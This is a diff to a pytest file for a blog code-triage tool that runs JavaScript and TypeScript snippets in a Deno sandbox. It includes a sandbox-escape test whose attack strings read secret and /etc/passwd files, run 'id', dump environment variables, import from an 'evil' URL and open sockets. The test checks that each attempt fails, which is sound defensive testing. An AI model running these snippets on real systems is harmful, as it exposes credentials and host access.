@@ -4,19 +4,30 @@ from __future__ import annotations
 
 import pytest
 
-from blogtools.sandbox import Sandbox
-from blogtools.triage import (ILLUSTRATIVE, LIMITS, NEEDS_CONTEXT, RUNS, Block, Need, Verdict, runtime_version,
-                              static_verdict, triage_post)
+from blogtools.triage import (
+    ILLUSTRATIVE,
+    LIMITS,
+    NEEDS_CONTEXT,
+    RUNS,
+    Block,
+    Need,
+    Sandboxes,
+    Verdict,
+    runtime_version,
+    static_verdict,
+    triage_post,
+)
+from local_tcp import tcp_listener
 
 
 @pytest.fixture(scope="module")
 def sandbox():
-    with Sandbox(LIMITS) as shared:
+    with Sandboxes(LIMITS) as shared:
         yield shared
 
 
 def triage(sandbox, *blocks: tuple[str, str]) -> list[Verdict]:
-    return triage_post([Block(n, language, text) for n, (language, text) in enumerate(blocks, 1)], sandbox=sandbox)
+    return triage_post([Block(n, language, text) for n, (language, text) in enumerate(blocks, 1)], sandboxes=sandbox)
 
 
 # --- no run needed -------------------------------------------------------------------------------
@@ -95,3 +106,63 @@ def test_cumulative_run_after_an_earlier_block(sandbox):
     assert verdicts[3].needs == (Need("module", "numpy"),)
     assert verdicts[4].verdict == NEEDS_CONTEXT
     assert verdicts[4].needs == (Need("block", "4"), Need("module", "numpy"))
+
+
+# --- JavaScript and TypeScript in Deno -------------------------------------------------------------
+
+@pytest.mark.sandbox
+def test_script_verdicts(sandbox):
+    verdicts = triage(
+        sandbox,
+        ("javascript", "const xs = [1, 2, 3];\nconsole.log(xs.map((x) => x * 2).join(','));\n"),
+        ("typescript", "interface Point { x: number; y: number }\n"
+                       "function norm(p: Point): number { return Math.hypot(p.x, p.y); }\nconsole.log(norm({x: 3, y: 4}));\n"),
+        ("javascript", "const total: number = 40 + 2;\nconsole.log(total);\n"),  # types in a block named JavaScript
+        ("javascript", "import { z } from 'zod';\nconsole.log(z.string().parse('x'));\n"),
+        ("typescript", "const response = await fetch('https://api.example.com/items');\nconsole.log(await response.json());\n"),
+        ("javascript", "document.querySelector('#app').textContent = 'hi';\n"),
+        ("javascript", "console.log(norm({x: 6, y: 8}));\n"),
+        ("typescript", "console.log(Deno.readTextFileSync('config.json'));\n"),
+        ("javascript", "function broken( {\n"),
+        ("javascript", "while (true) {}\n"),
+    )
+    assert verdicts[0] == Verdict(RUNS, "ran to completion", output="2,4,6\n")
+    assert verdicts[1] == Verdict(RUNS, "ran to completion", output="5\n")
+    assert verdicts[2] == Verdict(RUNS, "ran to completion", output="42\n")
+    assert verdicts[3].needs == (Need("module", "zod"),)
+    assert verdicts[4].needs == (Need("network", "https://api.example.com/items"),)
+    assert verdicts[5].needs == (Need("language", "browser"),)
+    assert verdicts[6] == Verdict(RUNS, "runs after block 2", output="10\n", after=2)
+    assert verdicts[7].needs == (Need("file", "config.json"),)
+    assert verdicts[8].verdict == ILLUSTRATIVE and verdicts[8].reason.startswith("fragment or pseudo-code")
+    assert verdicts[9].needs == (Need("time", "5 s"),)
+
+
+@pytest.mark.sandbox
+def test_hostile_scripts_reach_nothing_on_the_host(sandbox, tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("host-secret-4711")
+    tmp_path.chmod(0o755)
+    secret.chmod(0o644)
+    planted = tmp_path / "planted"
+    attacks = [
+        f"console.log(Deno.readTextFileSync({str(secret)!r}));",
+        f"import fs from 'node:fs';\nconsole.log(fs.readFileSync({str(secret)!r}, 'utf8'));",
+        f"Deno.writeTextFileSync({str(planted)!r}, 'x');",
+        "console.log(new TextDecoder().decode(new Deno.Command('id').outputSync().stdout));",
+        "import cp from 'node:child_process';\nconsole.log(cp.execSync('id').toString());",
+        "console.log(Deno.env.toObject());",
+        "const w = new Worker('data:text/javascript,postMessage(Deno.readTextFileSync(\"/etc/passwd\"))', "
+        "{type: 'module', deno: {permissions: 'inherit'}});",
+        "await import('https://deno.land/x/evil/mod.ts');",
+    ]
+    with tcp_listener() as (port, hits):
+        attacks += [f"await fetch('http://127.0.0.1:{port}/');",
+                    f"const c = await Deno.connect({{hostname: '127.0.0.1', port: {port}}});",
+                    f"import net from 'node:net';\nnet.connect({port}, '127.0.0.1');\nawait new Promise((r) => setTimeout(r, 300));"]
+        verdicts = triage(sandbox, *(("typescript", attack) for attack in attacks))
+    assert hits == []
+    assert not planted.exists()
+    for attack, verdict in zip(attacks, verdicts):
+        assert verdict.verdict != RUNS, attack
+        assert "host-secret-4711" not in verdict.reason and "uid=" not in verdict.reason
